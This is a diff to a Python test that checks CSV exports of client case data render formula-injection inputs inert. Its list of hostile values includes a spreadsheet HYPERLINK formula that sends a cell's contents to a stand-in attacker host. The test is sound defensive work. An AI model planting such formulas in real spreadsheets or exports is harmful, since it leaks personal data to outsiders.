@@ -11,10 +11,10 @@ from datetime import date
 
 import pytest
 
-from assistant.model.case import Case
 from assistant.model.exports import bulk
 from assistant.model.fields import catalogue
 from assistant.model.validation import FieldContext, validate_field
+from tests.isa_cases import ON, main_sheet_case
 
 # Values a client could type that a spreadsheet reads as formulas (the reported ones first).
 HOSTILE = ['=HYPERLINK("http://attacker.example/?"&C2,"詳細")', "=1+1", "\t=1+1", "\r=1+1",
@@ -68,10 +68,11 @@ def test_values_that_pass_validation_go_out_inert_in_a_real_spreadsheet(tmp_path
     raw = tmp_path / "raw.csv"
     raw.write_text("a\r\n" + "".join('"' + v.replace('"', '""') + '"\r\n' for v in HOSTILE),
                    encoding="utf-8-sig", newline="")
-    cases = [Case(id=f"c{i}", procedure="renewal",
-                  values={"name": "TRAN THI MAI", **{key: value for key in FREE_TEXT}})
+    # complete cases: the export validates every case and refuses one with errors
+    cases = [main_sheet_case("renewal", f"c{i}", name="TRAN THI MAI",
+                             **{key: value for key in FREE_TEXT})
              for i, value in enumerate(INERT)]
-    result = bulk.export_csv(cases, tmp_path / "ours")
+    result = bulk.export_csv(cases, tmp_path / "ours", on=ON)
     ours = tmp_path / "ours" / "renewal_main.csv"
     assert result.files == [ours]
     exported = ours.read_text(encoding="utf-8-sig")
